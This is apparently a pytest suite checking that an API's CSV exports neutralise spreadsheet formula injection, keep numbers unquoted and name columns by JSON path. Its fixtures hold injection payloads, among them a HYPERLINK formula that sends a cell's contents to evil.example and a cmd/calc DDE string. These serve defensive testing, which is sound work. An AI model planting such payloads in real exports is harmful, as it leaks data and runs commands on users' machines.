"""Every CSV the API answers is safe to open in a spreadsheet, and named by JSON paths."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from service.spreadsheet import csv_table, safe_cell
from tests import bodies
from tests.api import Client, post_event, report_development

AS_OF = {"as_of": "2024-03-15", "format": "csv"}
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def _rows(client: Client, path: str, **params: Any) -> list[dict[str, str]]:
    response = client.get(path, params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def _cells(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values()]


def given_a_development_written_as_formulas(client: Client) -> str:
    """A development whose texts a spreadsheet would run: title, originator, designation, quote,
    and a correction and status change whose reasons are formulas too."""
    development_id = report_development(
        client,
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        actors={"supplier": "PRK", "recipient": "RUS", "user": "@SUM(1+1)"},
        item={"category": "uav", "designation": "+Geran-2"},
        report=bodies.report(
            source=bodies.source(originator="-2+3+cmd|' /C calc'!A0"),
            quote="\t=1+1",
        ),
    )
    corrected = bodies.development_corrected(
        development_id, changes={"occurred": "2023-10"}, reason="=1+1 they said"
    )
    assert post_event(client, corrected).status_code == 201
    changed = bodies.status_changed(development_id, reason="\r=2+2")
    assert post_event(client, changed).status_code == 201
    return development_id


def test_no_csv_cell_of_any_answer_starts_a_formula(client: Client) -> None:
    # given a development whose texts are formulas
    development_id = given_a_development_written_as_formulas(client)

    # when every CSV the API answers is read
    tables = {
        "timeline": _rows(client, "/api/developments", **AS_OF),
        "detail": _rows(client, f"/api/developments/{development_id}", **AS_OF),
        "allegations": _rows(client, "/api/views/allegations", **AS_OF),
        "deliveries": _rows(client, "/api/views/deliveries", **AS_OF),
        "changes": _rows(client, "/api/changes", since="2000-01-01", format="csv"),
        "history": _rows(client, f"/api/developments/{development_id}/history", format="csv"),
    }

    # then no cell starts with a formula character, and each text reads as it was, after a quote
    for name, rows in tables.items():
        assert rows, name
        formulas = [cell for cell in _cells(rows) if cell.startswith(FORMULAS)]
        assert not formulas, (name, formulas)
    [timeline] = tables["timeline"]
    assert timeline["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert timeline["actors.user"] == "'@SUM(1+1)"
    assert timeline["item.designation"] == "'+Geran-2"
    [report] = tables["detail"]
    assert report["source.originator"] == "'-2+3+cmd|' /C calc'!A0"
    assert report["quote"] == "'\t=1+1"
    for name in ("changes", "history"):
        reasons = {row["reason"] for row in tables[name]}
        assert {"'=1+1 they said", "'\r=2+2"} <= reasons, (name, reasons)
        assert any(row["title"].startswith("'=HYPERLINK") for row in tables[name]), name


def test_csv_numbers_stay_numbers(client: Client) -> None:
    # given a development with a figure of 1,000 containers
    development_id = given_a_development_written_as_formulas(client)

    # when the views are read as CSV
    [report] = _rows(client, f"/api/developments/{development_id}", **AS_OF)
    [timeline] = _rows(client, "/api/developments", **AS_OF)
    series = _rows(client, "/api/views/deliveries", **AS_OF)[0]

    # then counts, positions and versions are written as numbers, unquoted
    assert (report["figure.value"], report["number"], report["position"]) == ("1000", "1", "1")
    assert (timeline["version"], timeline["reports"]) == ("3", "1")
    assert series["low"] == "1000"


def test_csv_true_and_false_are_spelled_as_in_json(client: Client) -> None:
    # given a development whose first report is retracted from 2024-03-01, and a second report
    development_id = report_development(client)
    retracted = bodies.report_retracted(development_id, effective_on="2024-03-01")
    assert post_event(client, retracted).status_code == 201
    assert post_event(client, bodies.report_added(development_id)).status_code == 201
    # when its reports are read as CSV on that date: `active` as the JSON has it
    reports = _rows(client, f"/api/developments/{development_id}", as_of="2024-03-01",
                    format="csv")  # fmt: skip
    assert [report["active"] for report in reports] == ["false", "true"]  # was False and True


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "=", "+x", " =1+2", "\n @A1", " -x"],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_prefixed_by_a_quote(text: str) -> None:

    # when a text that starts a formula is written as a cell
    cell = safe_cell(text)

    # then it is the same text after a single quote
    assert cell == "'" + text


@pytest.mark.parametrize(
    "value", [-5, 2.5, 0, "-5", "+1.5e3", "-0.25", " -5", "text", "", "2024-01-01"]
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object) -> None:

    # when a number, a number as written, or text that starts no formula is written as a cell
    cell = safe_cell(value)

    # then it is unchanged
    assert cell == value


def test_a_table_is_crlf_csv_with_its_cells_made_safe() -> None:

    # when a table with a formula, a number and a quote-worthy text is written
    table = csv_table([("a", "b", "c"), ("=1+1", -3, 'say "hi", then')])

    # then it is CSV with CRLF line ends, the formula neutralised, the rest as is
    assert table == 'a,b,c\r\n\'=1+1,-3,"say ""hi"", then"\r\n'


def test_allegations_csv_names_stance_counts_by_their_json_path(client: Client) -> None:
    # given a development alleged by one supporting report
    report_development(client)

    # when the allegations board is read as JSON and as CSV
    document = client.get("/api/views/allegations", params={"as_of": "2024-03-15"}).json()
    [row] = _rows(client, "/api/views/allegations", **AS_OF)

    # then each stance count's column is its JSON path, and holds the same number
    [item] = document["items"]
    stances = [column for column in row if column.startswith("stances.")]
    assert stances == [f"stances.{stance}" for stance in item["stances"]]
    assert not {"supports", "contradicts", "denies", "not_observed", "qualifies"} & set(row)
    for stance, count in item["stances"].items():
        assert row[f"stances.{stance}"] == str(count)
    assert row["stances.supports"] == "1"
